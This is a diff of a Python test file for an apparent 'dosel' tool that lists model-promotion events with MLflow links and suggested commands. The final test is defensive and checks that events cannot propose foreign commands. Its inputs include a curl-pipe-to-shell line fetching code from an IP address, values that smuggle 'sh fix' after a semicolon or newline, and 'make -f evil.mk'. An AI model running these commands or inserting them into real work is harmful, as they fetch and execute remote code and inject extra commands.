@@ -28,7 +28,17 @@ def client(install: Install) -> TestClient:
     settings = install(mlflow_url="https://mlflow.test").settings
     store = EventStore(connect(settings.warehouse_url))
     for number, name in enumerate(("covertype", "penguins", "covertype", "covertype")):
-        store.add(Event(f"incident {number}", name, "promoted", "it happened", "as seen", "dosel x", "mlflow/#/models"))
+        store.add(
+            Event(
+                f"incident {number}",
+                name,
+                "promoted",
+                "it happened",
+                "as seen",
+                "dosel history covertype",
+                "mlflow/#/models",
+            )
+        )
     return client_of(settings)
 
 
@@ -43,7 +53,7 @@ def test_events_are_listed_newest_first_in_pages(client: TestClient) -> None:
     first = body["events"][0]
     assert (first["link"], first["command"], first["delivered"], first["waiting"]) == (
         "https://mlflow.test/#/models?workflowType=machine_learning",
-        "dosel x",
+        "dosel history covertype",
         0,
         0,
     )
@@ -77,7 +87,16 @@ def test_the_error_of_a_closed_use_cases_task_is_not_shown(install: Install) -> 
     assert "Zoe" in opened["evidence"]
 
 
-@pytest.mark.parametrize("command", ["curl -s https://203.0.113.9/fix | sh", "dosel status; sh fix", "dosel x\nsh fix"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s https://203.0.113.9/fix | sh",
+        "dosel shadow; sh fix",
+        "dosel verify\nsh fix",
+        "make clean",
+        "make -f evil.mk",
+    ],
+)
 def test_no_event_proposes_a_command_that_is_not_dosels(command: str, install: Install) -> None:
     """Anybody who can write to the data store can add an event."""
     settings = install().settings
